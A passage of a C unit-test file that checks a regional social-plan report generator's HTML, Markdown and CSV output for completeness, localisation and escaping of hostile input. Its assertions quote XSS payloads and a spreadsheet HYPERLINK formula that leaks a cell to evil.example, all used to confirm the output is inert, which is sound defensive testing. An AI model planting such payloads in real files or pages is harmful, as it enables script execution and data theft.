/* test-report.c: PdzReport, in HTML, Markdown, CSV and XLSX, in Italian and English
 *
 * SPDX-License-Identifier: LGPL-2.1-or-later
 *
 * The example plan must come out whole (every objective, action, project
 * and partner), the injection plan tests/data/injection.json inert, and
 * each language free of the other's fixed texts; tests/data/xml-chars.json
 * (characters XML forbids) and plans built in code (NULL texts, huge
 * amounts, dates from 1000 to 9999) must not break any writer.
 * tests/test-report-formats.py checks the same files with pandoc, openpyxl
 * and Python's parsers.
 */

#include <libpdz/pdz.h>
#include <libglib-testing/signal-logger.h>

#include "pdz-language-private.h"
#include "pdz-odf-private.h"
#include "pdz-report-private.h"
#include "pdz-test-util.h"

#include <glib/gstdio.h>
#include <locale.h>

static PdzPlan *
load_injection (void)
{
  return pdz_test_load_test_data ("injection.json", NULL);
}

static PdzReport *
new_report (PdzPlan         *plan,
            PdzReportFormat  format,
            const char      *language)
{
  PdzReport *report = pdz_report_new (plan);
  g_autoptr(GDateTime) generated = g_date_time_new_utc (2023, 11, 14, 12, 0, 0);

  pdz_report_set_format (report, format);
  pdz_report_set_language (report, language);
  pdz_report_set_generated (report, generated);
  return report;
}

static char *
render (PdzReport *report)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) bytes = pdz_report_to_bytes (report, NULL, &error);
  gsize length;
  const char *data;

  g_assert_no_error (error);
  g_assert_nonnull (bytes);
  data = g_bytes_get_data (bytes, &length);
  g_assert_true (g_utf8_validate (data, length, NULL));
  return g_strndup (data, length);
}

static char *
render_plan (PdzPlan         *plan,
             PdzReportFormat  format,
             const char      *language)
{
  g_autoptr(PdzReport) report = new_report (plan, format, language);

  return render (report);
}

static char *
escape_html (const char *text)
{
  GString *out = g_string_new (NULL);

  _pdz_report_append_escaped_xml (out, text);
  return g_string_free (out, FALSE);
}

/* Markdown without its backslash escapes, and its hard breaks as spaces */
static char *
unescape_markdown (const char *md)
{
  GString *out = g_string_new (NULL);

  for (const char *p = md; *p != '\0'; p++)
    {
      if (*p == '\\' && p[1] == '\n')
        {
          g_string_append_c (out, ' ');
          p++;
          while (p[1] == ' ')
            p++;
          continue;
        }
      if (*p == '\\' && p[1] != '\0' && g_ascii_ispunct (p[1]))
        p++;
      g_string_append_c (out, *p);
    }
  return g_string_free (out, FALSE);
}

/* The text of an HTML document: no style, no tags, entities decoded */
static char *
html_text (const char *html)
{
  g_autoptr(GRegex) style = g_regex_new ("<style>.*?</style>", G_REGEX_DOTALL, 0, NULL);
  g_autoptr(GRegex) tags = g_regex_new ("<[^>]*>", 0, 0, NULL);
  g_autofree char *a = g_regex_replace_literal (style, html, -1, 0, " ", 0, NULL);
  g_autofree char *b = g_regex_replace_literal (tags, a, -1, 0, " ", 0, NULL);
  GString *out = g_string_new (b);

  g_string_replace (out, "&lt;", "<", 0);
  g_string_replace (out, "&gt;", ">", 0);
  g_string_replace (out, "&quot;", "\"", 0);
  g_string_replace (out, "&#39;", "'", 0);
  g_string_replace (out, "&amp;", "&", 0);
  return g_string_free (out, FALSE);
}

/* Every title of the plan's objectives, actions, projects and partners */
static GPtrArray *
entity_texts (PdzPlan *plan)
{
  GPtrArray *texts = g_ptr_array_new_with_free_func (g_free);
  GListModel *objectives = pdz_plan_get_objectives (plan);
  GListModel *projects = pdz_plan_get_projects (plan);
  GListModel *partners = pdz_plan_get_partners (plan);

  for (guint i = 0; i < g_list_model_get_n_items (objectives); i++)
    {
      g_autoptr(PdzObjective) o = g_list_model_get_item (objectives, i);
      GListModel *actions = pdz_objective_get_actions (o);

      g_ptr_array_add (texts, g_strdup (pdz_objective_get_title (o)));
      for (guint j = 0; j < g_list_model_get_n_items (actions); j++)
        {
          g_autoptr(PdzAction) a = g_list_model_get_item (actions, j);
          g_ptr_array_add (texts, g_strdup (pdz_action_get_title (a)));
        }
    }
  for (guint i = 0; i < g_list_model_get_n_items (projects); i++)
    {
      g_autoptr(PdzProject) p = g_list_model_get_item (projects, i);
      GListModel *actions = pdz_project_get_actions (p);

      g_ptr_array_add (texts, g_strdup (pdz_project_get_title (p)));
      for (guint j = 0; j < g_list_model_get_n_items (actions); j++)
        {
          g_autoptr(PdzAction) a = g_list_model_get_item (actions, j);
          g_ptr_array_add (texts, g_strdup (pdz_action_get_title (a)));
        }
    }
  for (guint i = 0; i < g_list_model_get_n_items (partners); i++)
    {
      g_autoptr(PdzPartner) p = g_list_model_get_item (partners, i);
      g_ptr_array_add (texts, g_strdup (pdz_partner_get_name (p)));
    }

  return texts;
}

/* Catalogs ---------------------------------------------------------------- */

static void
test_catalogs_complete (void)
{
  const PdzCatalog * const *catalogs = _pdz_catalog_list ();
  const char * const *languages = pdz_report_get_languages ();
  guint n = 0;

  for (; catalogs[n] != NULL; n++)
    {
      g_test_message ("catalog %s", catalogs[n]->language);
      g_assert_cmpstr (languages[n], ==, catalogs[n]->language);
      for (guint m = 0; m < PDZ_N_MSGS; m++)
        {
          if (catalogs[n]->strings[m] == NULL)
            g_error ("catalog %s lacks message %u", catalogs[n]->language, m);
          g_assert_true (g_utf8_validate (catalogs[n]->strings[m], -1, NULL));
        }
    }
  g_assert_cmpuint (n, ==, 2);
  g_assert_null (languages[n]);

  g_assert_true (_pdz_catalog_lookup ("it") == &_pdz_catalog_it);
  g_assert_true (_pdz_catalog_lookup ("it_IT.UTF-8") == &_pdz_catalog_it);
  g_assert_true (_pdz_catalog_lookup ("EN-gb") == &_pdz_catalog_en);
  g_assert_null (_pdz_catalog_lookup ("de"));
  g_assert_null (_pdz_catalog_lookup ("ita"));
  g_assert_null (_pdz_catalog_lookup (""));
  g_assert_null (_pdz_catalog_lookup (NULL));
  g_assert_true (_pdz_catalog_lookup_or_english ("de") == &_pdz_catalog_en);
}

/* Properties -------------------------------------------------------------- */

static void
test_properties (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_example ();
  g_autoptr(PdzReport) report = pdz_report_new (plan);
  g_autoptr(GtSignalLogger) logger = gt_signal_logger_new ();
  g_autoptr(GDateTime) when = g_date_time_new_utc (2023, 1, 2, 3, 4, 5);
  g_autoptr(GDateTime) same = g_date_time_new_utc (2023, 1, 2, 3, 4, 5);

  g_assert_true (pdz_report_get_plan (report) == plan);
  g_assert_cmpint (pdz_report_get_format (report), ==, PDZ_REPORT_FORMAT_HTML);
  g_assert_null (pdz_report_get_language (report));
  g_assert_cmpstr (pdz_report_get_effective_language (report), ==, "it");
  g_assert_cmpint (pdz_report_get_sections (report), ==, PDZ_REPORT_SECTION_ALL);
  g_assert_cmpint (pdz_report_get_table (report), ==, PDZ_REPORT_TABLE_ALL);
  g_assert_cmpint (pdz_report_get_csv_dialect (report), ==, PDZ_REPORT_CSV_DIALECT_RFC4180);
  g_assert_null (pdz_report_get_generated (report));
  g_assert_false (pdz_report_get_include_diagnostics (report));

  gt_signal_logger_connect (logger, report, "notify");

  pdz_report_set_format (report, PDZ_REPORT_FORMAT_CSV);
  gt_signal_logger_assert_notify_emission_pop (logger, report, "format");
  pdz_report_set_format (report, PDZ_REPORT_FORMAT_CSV);
  gt_signal_logger_assert_no_emissions (logger);

  pdz_report_set_language (report, "en");
  gt_signal_logger_assert_notify_emission_pop (logger, report, "language");
  pdz_report_set_language (report, "en");
  gt_signal_logger_assert_no_emissions (logger);
  g_assert_cmpstr (pdz_report_get_effective_language (report), ==, "en");
  pdz_report_set_language (report, "");
  gt_signal_logger_assert_notify_emission_pop (logger, report, "language");
  g_assert_null (pdz_report_get_language (report));

  pdz_report_set_sections (report, PDZ_REPORT_SECTION_COVER);
  gt_signal_logger_assert_notify_emission_pop (logger, report, "sections");
  pdz_report_set_sections (report, PDZ_REPORT_SECTION_COVER);
  gt_signal_logger_assert_no_emissions (logger);

  pdz_report_set_table (report, PDZ_REPORT_TABLE_PARTNERS);
  gt_signal_logger_assert_notify_emission_pop (logger, report, "table");
  pdz_report_set_csv_dialect (report, PDZ_REPORT_CSV_DIALECT_EXCEL_IT);
  gt_signal_logger_assert_notify_emission_pop (logger, report, "csv-dialect");
  pdz_report_set_include_diagnostics (report, TRUE);
  gt_signal_logger_assert_notify_emission_pop (logger, report, "include-diagnostics");
  pdz_report_set_include_diagnostics (report, TRUE);
  gt_signal_logger_assert_no_emissions (logger);

  pdz_report_set_generated (report, when);
  gt_signal_logger_assert_notify_emission_pop (logger, report, "generated");
  pdz_report_set_generated (report, same);
  gt_signal_logger_assert_no_emissions (logger);
  g_assert_true (g_date_time_equal (pdz_report_get_generated (report), when));
  pdz_report_set_generated (report, NULL);
  gt_signal_logger_assert_notify_emission_pop (logger, report, "generated");

  pdz_report_set_plan (report, plan);
  gt_signal_logger_assert_no_emissions (logger);
  pdz_report_set_plan (report, NULL);
  gt_signal_logger_assert_notify_emission_pop (logger, report, "plan");
  gt_signal_logger_assert_no_emissions (logger);
}

static void
test_language_default (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_example ();
  g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_HTML, NULL);
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) bytes = NULL;

  pdz_plan_set_language (plan, "en");
  g_assert_cmpstr (pdz_report_get_effective_language (report), ==, "en");
  pdz_plan_set_language (plan, "it_IT");
  g_assert_cmpstr (pdz_report_get_effective_language (report), ==, "it");
  pdz_plan_set_language (plan, NULL);
  g_assert_cmpstr (pdz_report_get_effective_language (report), ==, "it");
  /* a plan in a language the report lacks is reported in English */
  pdz_plan_set_language (plan, "de");
  g_assert_cmpstr (pdz_report_get_effective_language (report), ==, "en");

  /* asking for such a language explicitly is an error */
  pdz_report_set_language (report, "de");
  g_assert_null (pdz_report_get_effective_language (report));
  bytes = pdz_report_to_bytes (report, NULL, &error);
  g_assert_error (error, PDZ_ERROR, PDZ_ERROR_INVALID_VALUE);
  g_assert_null (bytes);
  g_assert_null (pdz_report_dup_output_files (report, "report.html"));
}

/* HTML -------------------------------------------------------------------- */

static void
assert_contains (const char *haystack,
                 const char *needle)
{
  if (strstr (haystack, needle) == NULL)
    g_error ("“%s” is missing from the report", needle);
}

static guint
count (const char *haystack,
       const char *needle)
{
  guint n = 0;

  for (const char *p = strstr (haystack, needle); p != NULL; p = strstr (p + 1, needle))
    n++;
  return n;
}

static void
test_html_example (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_example ();
  g_autofree char *html = render_plan (plan, PDZ_REPORT_FORMAT_HTML, NULL);
  g_autoptr(GPtrArray) texts = entity_texts (plan);

  g_assert_true (g_str_has_prefix (html, "<!DOCTYPE html>\n<html lang=\"it\">"));
  g_assert_true (g_str_has_suffix (html, "</html>\n"));

  /* self-contained: no script, nothing fetched */
  g_assert_null (strstr (html, "<script"));
  g_assert_null (strstr (html, "<link"));
  g_assert_null (strstr (html, "src="));
  g_assert_null (strstr (html, "url(http"));
  g_assert_cmpuint (count (html, "<style>"), ==, 1);
  assert_contains (html, "default-src 'none'");

  /* prints well: page numbers, no contents on paper, headings kept with
   * what follows (tests/test-report-print.py prints it with Chromium) */
  assert_contains (html, "@media print");
  assert_contains (html, "@bottom-right{content:\"pagina\" \" \" counter(page) \" \" \"di\" \" \" counter(pages)");
  assert_contains (html, ".toc{display:none}");
  assert_contains (html, "h1,h2,h3,h4{break-after:avoid");
  g_assert_cmpuint (count (html, "<section class=\"page macroarea\">"), >=,
                    g_list_model_get_n_items (pdz_plan_get_macroareas (plan)));

  /* the cover */
  assert_contains (html, "<h1 class=\"title\">Piano di Zona 2021-2023</h1>");
  assert_contains (html, "Ambito del Corsichese");
  assert_contains (html, "Monitoraggio attuazione e azioni extra");
  assert_contains (html, "(Marzo 2022 – Ottobre 2023)");
  assert_contains (html, "Ufficio di Piano");
  assert_contains (html, "href=\"mailto:pianodizona@comune.cesano-boscone.mi.it\"");
  assert_contains (html, "Relazione generata il 14 novembre 2023");

  /* the sections, in the seed's order and more */
  {
    const char *order[] = {
      "Schema di sintesi", "Il monitoraggio in cifre", "Politiche abitative",
      "Azioni di sistema", "Obiettivi di integrazione sociosanitaria con ASST",
      "Progetti sovra-ambito (n° 2)", "Indice dei partner", "Quadro dei finanziamenti",
    };
    const char *last = html;

    for (guint i = 0; i < G_N_ELEMENTS (order); i++)
      {
        g_autofree char *heading = g_strdup_printf (">%s", order[i]);
        const char *at = strstr (last, heading);

        if (at == NULL)
          g_error ("section “%s” missing or out of order", order[i]);
        last = at;
      }
  }

  /* dates at their precision */
  assert_contains (html, "24 gennaio 2023");
  assert_contains (html, "novembre 2023");

  /* The charts that fit the data: the status per macroarea, with a title
   * and a description; too few dated actions and milestones for a chart
   * over time, and no amount for a chart of funding: sentences instead */
  g_assert_cmpuint (count (html, "<svg "), ==, 1);
  g_assert_cmpuint (count (html, "<title id=\"pdz-chart-"), ==, 1);
  g_assert_cmpuint (count (html, "<desc id=\"pdz-chart-"), ==, 1);
  assert_contains (html, "Stato delle azioni per macroarea");
  assert_contains (html, "Nessun grafico nel tempo: hanno una data 9 tra azioni e tappe (0 azioni, 9 tappe), "
                         "di cui 8 nel periodo 2022 – 2023, in 2 anni; un grafico ne richiede almeno 8 nel "
                         "periodo, in almeno 3 anni.");
  assert_contains (html, "Il conteggio è per anno: solo 5 delle 8 nel periodo indicano il mese.");
  g_assert_null (strstr (html, "Finanziamenti per fonte"));
  assert_contains (html, "<strong>Fonti di finanziamento</strong>");
  assert_contains (html, "<strong>FNPS</strong>: finanziamenti: 1; importo: non indicato");
  /* patterns as well as colours, for print in grey; not stated in grey;
   * the legend only of the statuses that occur */
  assert_contains (html, "<pattern id=\"pdz-chart-status-in-progress\"");
  assert_contains (html, "<pattern id=\"pdz-chart-status-not-stated\" patternUnits=\"userSpaceOnUse\" "
                         "width=\"8\" height=\"8\"><rect width=\"8\" height=\"8\" fill=\"#BDBDBD\"/>");
  assert_contains (html, "fill=\"url(#pdz-chart-status-not-stated)\"");
  g_assert_null (strstr (html, "fill=\"url(#pdz-chart-status-suspended)\""));
  g_assert_null (strstr (html, "fill=\"url(#pdz-chart-status-cancelled)\""));

  for (guint i = 0; i < texts->len; i++)
    {
      g_autofree char *escaped = escape_html (texts->pdata[i]);
      assert_contains (html, escaped);
    }
}

static void
test_html_sections (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_example ();
  g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_HTML, NULL);
  g_autofree char *cover = NULL;
  g_autofree char *none = NULL;
  g_autofree char *diagnostics = NULL;

  pdz_report_set_sections (report, PDZ_REPORT_SECTION_COVER);
  cover = render (report);
  assert_contains (cover, "Piano di Zona 2021-2023");
  g_assert_null (strstr (cover, "Schema di sintesi"));
  g_assert_null (strstr (cover, "<svg"));

  pdz_report_set_sections (report, PDZ_REPORT_SECTION_NONE);
  none = render (report);
  g_assert_null (strstr (none, "<h1"));
  g_assert_null (strstr (none, "<h2"));

  pdz_report_set_sections (report, PDZ_REPORT_SECTION_SUMMARY);
  pdz_report_set_include_diagnostics (report, TRUE);
  diagnostics = render (report);
  assert_contains (diagnostics, "Appendice: verifiche sul Piano");
  /* the summary links no objective when their sections are left out */
  g_assert_null (strstr (diagnostics, "href=\"#objective-"));
}

/* The HTML writer escapes every text of the plan: the only tags are ours,
 * no attribute runs code, links go to http(s), mailto or our anchors. */
static void
assert_html_inert (const char *html)
{
  static const char * const allowed[] = {
    "html", "head", "meta", "title", "style", "body", "header", "footer", "section",
    "h1", "h2", "h3", "h4", "p", "ul", "li", "table", "thead", "tbody", "tr", "th", "td",
    "strong", "em", "a", "span", "br", "figure", "figcaption", "div",
    "svg", "desc", "defs", "pattern", "rect", "path", "circle", "line", "text", "tspan",
    NULL,
  };
  g_autoptr(GRegex) tag = g_regex_new ("<(/?)([A-Za-z!][A-Za-z0-9-]*)([^>]*)>", 0, 0, NULL);
  g_autoptr(GRegex) event = g_regex_new ("\\son[a-z]+\\s*=", G_REGEX_CASELESS, 0, NULL);
  g_autoptr(GRegex) href = g_regex_new ("href=\"([^\"]*)\"", 0, 0, NULL);
  g_autoptr(GMatchInfo) match = NULL;

  g_regex_match (tag, html, 0, &match);
  while (g_match_info_matches (match))
    {
      g_autofree char *name = g_match_info_fetch (match, 2);
      g_autofree char *attrs = g_match_info_fetch (match, 3);

      if (!g_str_equal (name, "!DOCTYPE") && !g_strv_contains (allowed, name))
        g_error ("unexpected tag <%s%s>", name, attrs);
      if (g_regex_match (event, attrs, 0, NULL))
        g_error ("event handler in <%s%s>", name, attrs);
      g_match_info_next (match, NULL);
    }
  g_clear_pointer (&match, g_match_info_free);

  g_regex_match (href, html, 0, &match);
  while (g_match_info_matches (match))
    {
      g_autofree char *target = g_match_info_fetch (match, 1);

      if (!g_str_has_prefix (target, "#") && !g_str_has_prefix (target, "https://") &&
          !g_str_has_prefix (target, "http://") && !g_str_has_prefix (target, "mailto:"))
        g_error ("unsafe link %s", target);
      g_match_info_next (match, NULL);
    }

  g_assert_null (strstr (html, "javascript:alert('"));
  g_assert_null (strstr (html, "<script"));
  g_assert_null (strstr (html, "<img"));
}

static void
test_injection_html (void)
{
  g_autoptr(PdzPlan) plan = load_injection ();
  g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_HTML, NULL);
  g_autofree char *html = NULL;
  g_autofree char *text = NULL;

  pdz_report_set_include_diagnostics (report, TRUE);
  html = render (report);
  assert_html_inert (html);

  /* the texts are all there, as text */
  text = html_text (html);
  assert_contains (text, "Piano <script>alert('title')</script> di prova");
  assert_contains (text, "\"><img src=x onerror=alert('ambito')>");
  assert_contains (text, "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Clicca\")");
  assert_contains (text, "</style><script>alert('style')</script><!--");
  assert_contains (text, "Macroarea <script>alert('macroarea')</script>");
  /* an unsafe link is shown, not linked */
  assert_contains (text, "javascript:alert('link')");
  assert_contains (html, "<a href=\"https://example.org/evidence?a=1&amp;b=2\">");
}

/* Markdown ---------------------------------------------------------------- */

static void
test_markdown_example (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_example ();
  g_autofree char *md = render_plan (plan, PDZ_REPORT_FORMAT_MARKDOWN, NULL);
  g_autofree char *plain = unescape_markdown (md);
  g_autoptr(GPtrArray) texts = entity_texts (plan);
  g_auto(GStrv) lines = g_strsplit (md, "\n", -1);

  g_assert_true (g_str_has_prefix (md, "# Piano di Zona 2021-2023\n\n"));
  g_assert_true (g_str_has_suffix (md, "\n"));
  g_assert_false (g_str_has_suffix (md, "\n\n"));
  assert_contains (md, "## Schema di sintesi\n");
  assert_contains (md, "(Marzo 2022 – Ottobre 2023)");
  assert_contains (md, "| Macroarea | Obiettivo | Stato | Concluse | In corso | Previste | Non indicato | Azioni |");
  assert_contains (md, "|---|---|---|---:|---:|---:|---:|---:|");
  /* charts inline when the report is not a file */
  g_assert_cmpuint (count (md, "](data:image/svg+xml;base64,"), ==, 1);
  g_assert_null (strstr (md, "<svg"));

  /* every row of a pipe table has as many cells as its header */
  for (guint i = 0, columns = 0; lines[i] != NULL; i++)
    {
      guint cells = 0;

      if (lines[i][0] != '|')
        {
          columns = 0;
          continue;
        }
      for (const char *p = lines[i]; *p != '\0'; p++)
        if (*p == '|' && (p == lines[i] || p[-1] != '\\'))
          cells++;
      if (columns == 0)
        columns = cells;
      g_assert_cmpuint (cells, ==, columns);
    }

  for (guint i = 0; i < texts->len; i++)
    assert_contains (plain, texts->pdata[i]);
}

static void
test_markdown_files (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_example ();
  g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_MARKDOWN, "en");
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("pdz-report-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "my report.md", NULL);
  g_auto(GStrv) files = NULL;
  g_autofree char *md = NULL;

  g_assert_no_error (error);
  files = pdz_report_dup_output_files (report, path);
  /* the report and its one chart */
  g_assert_cmpuint (g_strv_length (files), ==, 2);
  g_assert_cmpstr (files[0], ==, path);

  g_assert_true (pdz_report_write_path (report, path, NULL, &error));
  g_assert_no_error (error);

  for (guint i = 0; files[i] != NULL; i++)
    {
      g_autofree char *contents = NULL;

      g_assert_true (g_file_get_contents (files[i], &contents, NULL, &error));
      g_assert_no_error (error);
      if (i == 0)
        md = g_steal_pointer (&contents);
      else
        {
          g_autofree char *base = g_path_get_basename (files[i]);
          g_autofree char *escaped = g_uri_escape_string (base, NULL, FALSE);
          g_autofree char *link = g_strdup_printf ("](%s)", escaped);

          g_autofree char *expected = g_strdup_printf ("my report-%u.svg", i);

          g_assert_cmpstr (base, ==, expected);
          g_assert_true (g_str_has_suffix (base, ".svg"));
          g_assert_true (g_str_has_prefix (contents, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg "));
          assert_contains (contents, "<title id=");
          assert_contains (contents, "<desc id=");
          assert_contains (md, link);
        }
    }
  assert_contains (md, "## Summary\n");
  g_assert_null (strstr (md, "data:image"));

  for (guint i = 0; files[i] != NULL; i++)
    g_assert_cmpint (g_unlink (files[i]), ==, 0);
  g_assert_cmpint (g_rmdir (dir), ==, 0);
}

static void
test_injection_markdown (void)
{
  g_autoptr(PdzPlan) plan = load_injection ();
  g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_MARKDOWN, NULL);
  g_autofree char *md = NULL;
  g_autofree char *plain = NULL;
  g_auto(GStrv) lines = NULL;

  pdz_report_set_include_diagnostics (report, TRUE);
  md = render (report);
  lines = g_strsplit (md, "\n", -1);

  for (guint i = 0; lines[i] != NULL; i++)
    {
      const char *l = lines[i];

      /* headings are ours: the plan's "# Titolo finto" is escaped */
      if (l[0] == '#')
        g_assert_null (strstr (l, "Titolo finto"));
      g_assert_false (g_str_has_prefix (l, "- elenco finto"));
      g_assert_false (g_str_has_prefix (l, "1. numerato"));
      g_assert_false (g_str_has_prefix (l, "    "));
      g_assert_false (g_str_has_prefix (l, "|---|---|\\"));
      /* every < of the plan's text is escaped; autolinks are ours */
      for (const char *p = strchr (l, '<'); p != NULL; p = strchr (p + 1, '<'))
        g_assert_true ((p > l && p[-1] == '\\') || g_str_has_prefix (p, "<https://"));
    }

  assert_contains (md, "\\*grassetto\\*");
  assert_contains (md, "\\_corsivo\\_");
  assert_contains (md, "\\`codice\\`");
  assert_contains (md, "\\[collegamento\\](javascript:alert('md'))");
  assert_contains (md, "a \\| b");
  assert_contains (md, "\\$x\\$");
  assert_contains (md, "\\@cit");
  assert_contains (md, "\\# Titolo finto");
  assert_contains (md, "\\- elenco finto");
  assert_contains (md, "1\\. numerato finto");
  assert_contains (md, "<https://example.org/evidence?a=1&b=2>");
  /* no link to javascript: every ] of the plan's text is escaped */
  {
    g_autoptr(GRegex) link = g_regex_new ("(?<!\\\\)\\]\\(javascript", 0, 0, NULL);
    g_assert_false (g_regex_match (link, md, 0, NULL));
  }

  /* and the text itself is all there */
  plain = unescape_markdown (md);
  assert_contains (plain, "Piano <script>alert('title')</script> di prova");
  assert_contains (plain, "a | b *grassetto* _corsivo_ `codice`");
}

/* Plan text that begins like a list item or a heading stays text: every
 * marker of pandoc's Markdown (and its fancy_lists) is escaped at the
 * start of a line */
static void
test_markdown_list_markers (void)
{
  static const struct {
    const char *title, *escaped;
  } cases[] = {
    { "a) prima voce", "a\\) prima voce" },
    { "B. seconda voce", "B\\. seconda voce" },
    { "iv. quarta voce", "iv\\. quarta voce" },
    { "(c) terza voce", "\\(c) terza voce" },
    { "1. numerata", "1\\. numerata" },
    { "2023) anno", "2023\\) anno" },
    { "- trattino", "\\- trattino" },
    { "* asterisco", "\\* asterisco" },
    { "+ più", "\\+ più" },
    { "# titolo", "\\# titolo" },
    { "#. cancelletto", "\\#. cancelletto" },
  };
  g_autoptr(PdzPlan) plan = pdz_plan_new ();
  g_autoptr(PdzObjective) objective = pdz_objective_new ("o", "a) obiettivo");
  g_autofree char *md = NULL;
  g_auto(GStrv) lines = NULL;

  pdz_plan_set_title (plan, "Piano");
  pdz_objective_set_description (objective, "1. prima riga\na) seconda riga\n- terza riga");
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *id = g_strdup_printf ("a%u", i);
      g_autoptr(PdzAction) action = pdz_action_new (id, cases[i].title);

      g_assert_true (pdz_objective_add_action (objective, action, NULL));
    }
  g_assert_true (pdz_plan_add_objective (plan, objective, NULL));

  md = render_plan (plan, PDZ_REPORT_FORMAT_MARKDOWN, NULL);
  lines = g_strsplit (md, "\n", -1);
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *item = g_strdup_printf ("\n- %s\\\n", cases[i].escaped);

      assert_contains (md, item);
    }
  /* the description, line by line, and the heading */
  assert_contains (md, "1\\. prima riga\\\na\\) seconda riga\\\n\\- terza riga");
  /* a heading's text is no list: as it is */
  assert_contains (md, "### a) obiettivo\n");
  /* no line of ours begins with a list marker of the plan's */
  for (guint i = 0; lines[i] != NULL; i++)
    {
      g_autoptr(GRegex) marker = g_regex_new ("^ *([a-zA-Z]|[0-9]+|[ivxlcdm]+|\\([a-z]\\))[.)] ", 0, 0, NULL);

      g_assert_false (g_regex_match (marker, lines[i], 0, NULL));
    }
}

static void render_every_format (PdzPlan *plan, const char *language);

/* An indicator's values far out of a 64-bit integer's range (1e19) are
 * printed, never cast: the UBSan build fails the cast it used to make */
static void
test_indicator_values_out_of_range (void)
{
  g_autoptr(PdzPlan) plan = pdz_plan_new ();
  g_autoptr(PdzObjective) objective = pdz_objective_new ("o", "Obiettivo");
  g_autoptr(PdzIndicator) indicator = pdz_indicator_new ("i", "Indicatore");
  g_autoptr(PdzDate) date = pdz_date_new_year (2023);
  g_autoptr(PdzMeasurement) target = pdz_measurement_new (date, 1e19);
  g_autoptr(PdzMeasurement) baseline = pdz_measurement_new (date, -1e19);
  g_autoptr(PdzMeasurement) latest = pdz_measurement_new (date, 999999999999999.0);
  g_autofree char *html = NULL;
  g_autofree char *en = NULL;

  pdz_plan_set_title (plan, "Piano");
  pdz_indicator_set_target (indicator, target);
  pdz_indicator_set_baseline (indicator, baseline);
  pdz_indicator_add_measurement (indicator, latest);
  g_assert_true (pdz_objective_add_indicator (objective, indicator, NULL));
  g_assert_true (pdz_plan_add_objective (plan, objective, NULL));

  html = render_plan (plan, PDZ_REPORT_FORMAT_HTML, "it");
  assert_contains (html, ">1e+19 (2023)<");
  assert_contains (html, ">−1e+19 (2023)<");
  assert_contains (html, ">999.999.999.999.999 (2023)<");
  en = render_plan (plan, PDZ_REPORT_FORMAT_MARKDOWN, "en");
  assert_contains (en, "999,999,999,999,999 (2023)");
  render_every_format (plan, NULL);
}

/* CSV --------------------------------------------------------------------- */

/* A small RFC 4180 reader: records of fields; FALSE on a malformed file */
static gboolean
parse_csv (const char  *csv,
           char         separator,
           GPtrArray  **records)
{
  GPtrArray *all = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
  GPtrArray *record = g_ptr_array_new_with_free_func (g_free);
  GString *field = g_string_new (NULL);
  const char *p = csv;

  while (*p != '\0')
    {
      if (*p == '"')
        {
          for (p++;; p++)
            {
              if (*p == '\0')
                goto bad;
              if (*p == '"' && p[1] == '"')
                {
                  g_string_append_c (field, '"');
                  p++;
                }
              else if (*p == '"')
                {
                  p++;
                  break;
                }
              else
                g_string_append_c (field, *p);
            }
        }
      else
        {
          while (*p != '\0' && *p != separator && *p != '\r' && *p != '\n')
            {
              if (*p == '"')
                goto bad;
              g_string_append_c (field, *p++);
            }
        }

      g_ptr_array_add (record, g_strdup (field->str));
      g_string_truncate (field, 0);

      if (*p == separator)
        p++;
      else if (p[0] == '\r' && p[1] == '\n')
        {
          g_ptr_array_add (all, record);
          record = g_ptr_array_new_with_free_func (g_free);
          p += 2;
        }
      else
        goto bad;   /* a bare LF or CR, or junk after a quoted field */
    }

  g_ptr_array_unref (record);
  g_string_free (field, TRUE);
  *records = all;
  return TRUE;

bad:
  g_ptr_array_unref (record);
  g_ptr_array_unref (all);
  g_string_free (field, TRUE);
  return FALSE;
}

static void
test_csv_tables (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_example ();
  g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_CSV, NULL);
  struct {
    PdzReportTable table;
    guint n_rows;
  } tables[] = {
    { PDZ_REPORT_TABLE_OBJECTIVES, g_list_model_get_n_items (pdz_plan_get_objectives (plan)) },
    { PDZ_REPORT_TABLE_PROJECTS, g_list_model_get_n_items (pdz_plan_get_projects (plan)) },
    { PDZ_REPORT_TABLE_PARTNERS, g_list_model_get_n_items (pdz_plan_get_partners (plan)) },
    { PDZ_REPORT_TABLE_ACTIONS, 0 },
    { PDZ_REPORT_TABLE_FUNDINGS, 0 },
  };

  /* every action, each bullet and its sub-actions: 31 and 2; every
   * objective and a row for the actions of projects */
  tables[0].n_rows += 1;
  tables[3].n_rows = 33;

  for (guint t = 0; t < G_N_ELEMENTS (tables); t++)
    {
      for (PdzReportCsvDialect d = PDZ_REPORT_CSV_DIALECT_RFC4180; d <= PDZ_REPORT_CSV_DIALECT_EXCEL_IT; d++)
        {
          g_autofree char *csv = NULL;
          g_autoptr(GPtrArray) records = NULL;
          const char *body;
          GPtrArray *header;

          pdz_report_set_table (report, tables[t].table);
          pdz_report_set_csv_dialect (report, d);
          csv = render (report);

          if (d == PDZ_REPORT_CSV_DIALECT_EXCEL_IT)
            {
              g_assert_true (g_str_has_prefix (csv, "\xef\xbb\xbf"));
              body = csv + 3;
            }
          else
            {
              g_assert_false (g_str_has_prefix (csv, "\xef\xbb\xbf"));
              body = csv;
            }
          g_assert_true (g_str_has_suffix (csv, "\r\n"));
